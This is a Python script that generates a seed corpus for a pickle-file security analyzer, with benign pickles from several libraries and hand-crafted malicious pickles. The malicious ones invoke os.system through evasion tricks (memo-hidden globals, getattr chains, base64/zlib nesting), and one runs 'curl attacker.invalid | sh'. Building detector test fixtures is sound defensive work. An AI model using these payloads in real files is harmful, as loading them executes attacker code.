#!/usr/bin/env python3
"""Writes the pickle analyzer's seed corpus (also used as test fixtures).

Benign files come from CPython's pickle (protocols 0 to 5), joblib 1.2 and torch 1.13 (legacy
format) on harmless data. Malicious-looking files are crafted byte by byte here and are never
unpickled; their payloads only name attacker.invalid. Run with /usr/bin/python3 from this folder:
    /usr/bin/python3 make_corpus.py
"""
import base64
import collections
import io
import os
import pickle
import struct
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))


def write(name, data):
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(data)


def benign():
    value = {
        "ints": [0, 1, -1, 255, 65535, 2**31 - 1, -(2**31), 2**63, -(2**70)],
        "floats": [0.0, 1.5, -2.25, float("inf")],
        "text": ["", "abc", "caf\u00e9", "\u4e2d\u6587", "line\nbreak", "quote'\""],
        "bytes": [b"", b"\x00\xff", bytearray(b"ba")],
        "nested": ((1, 2), (3,), (), [[], {}], {1: {2: (3, [4])}}),
        "sets": [set(), {1, 2}, frozenset({"a"})],
        "flags": [None, True, False],
        "shared": None,
    }
    shared = ["same object"]
    value["shared"] = [shared, shared]
    for proto in range(0, 6):
        write(f"benign_proto{proto}.pkl", pickle.dumps(value, protocol=proto))
    write("benign_ordereddict_p2.pkl",
          pickle.dumps(collections.OrderedDict(a=1, b=[1, 2]), protocol=2))
    write("benign_long_list_p4.pkl", pickle.dumps(list(range(3000)), protocol=4))
    write("benign_two_pickles.pkl", pickle.dumps([1, 2], 2) + pickle.dumps({"k": "v"}, 4))


def joblib_files():
    try:
        import joblib
        import numpy as np
    except ImportError:
        return
    arrays = {
        "f8": np.arange(10, dtype="<f8"),
        "i4_2d": np.arange(12, dtype="<i4").reshape(3, 4),
        "fortran": np.asfortranarray(np.arange(6, dtype="<i2").reshape(2, 3)),
        "unicode": np.array(["ab", "cde"]),
        "bools": np.array([True, False, True]),
        "empty": np.zeros((0, 3)),
        "objects": np.array([1, "x", None], dtype=object),
        "structured": np.zeros(2, dtype=[("a", "<i4"), ("b", "<f8")]),
    }
    path = os.path.join(HERE, "joblib_arrays.pkl")
    joblib.dump(arrays, path)
    try:
        from sklearn.linear_model import LinearRegression
        model = LinearRegression().fit(np.arange(8.0).reshape(4, 2), np.arange(4.0))
        joblib.dump(model, os.path.join(HERE, "joblib_sklearn_linear.pkl"))
    except ImportError:
        pass


def torch_legacy():
    try:
        import torch
    except ImportError:
        return
    buffer = io.BytesIO()
    torch.save({"weight": torch.arange(4, dtype=torch.float32)}, buffer,
               _use_new_zipfile_serialization=False)
    write("torch_legacy.pt", buffer.getvalue())


# --- crafted (never unpickled) ---

def short_unicode(s):
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def short_bytes(b):
    return b"C" + bytes([len(b)]) + b


def call_p0(module, name, arg):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n(S'" + arg.encode() + b"'\ntR."


def crafted():
    write("evil_os_system_p0.pkl", call_p0("os", "system", "curl attacker.invalid | sh"))
    write("evil_builtin_eval_p0.pkl", call_p0("__builtin__", "eval", "print(1)"))
    # STACK_GLOBAL operands fetched back from the memo, call hidden by POP.
    write("evil_memo_stack_global_p4.pkl",
          b"\x80\x04" + short_unicode("os") + b"\x94" + short_unicode("system") + b"\x94" +
          b"N0" + b"h\x00h\x01\x93" + short_unicode("id") + b"\x85R0N.")
    # getattr(__import__('os'), 'system')('id')
    write("evil_getattr_chain_p2.pkl",
          b"\x80\x02cbuiltins\ngetattr\ncbuiltins\n__import__\nX\x02\x00\x00\x00os\x85R"
          b"X\x06\x00\x00\x00system\x86RX\x02\x00\x00\x00id\x85R.")
    inner = call_p0("os", "system", "id")
    b64 = base64.b64encode(zlib.compress(inner))
    write("evil_nested_b64_zlib_p2.pkl",
          b"\x80\x02cpickle\nloads\nczlib\ndecompress\ncbase64\nb64decode\n" +
          short_bytes(b64) + b"\x85R\x85R\x85R.")
    write("evil_dynamic_stack_global_p4.pkl",
          b"\x80\x04cmypkg\nmodule_name\n)R" + short_unicode("system") + b"\x93" +
          short_unicode("id") + b"\x85R.")
    write("malformed_truncated_p2.pkl", b"\x80\x02cos\nsystem\nX\xff\x00\x00\x00abc")
    write("malformed_unknown_opcode.pkl", b"\x80\x02\xffN.")
    write("frame_lies_p4.pkl", b"\x80\x04\x95\x00\x10\x00\x00\x00\x00\x00\x00N.")
    write("ext_code_p2.pkl", b"\x80\x02\x82\x05)R.")
    write("junk_between_pickles.pkl",
          pickle.dumps([1], 2) + b"JUNK" * 4 + call_p0("os", "system", "id"))


if __name__ == "__main__":
    benign()
    joblib_files()
    torch_legacy()
    crafted()
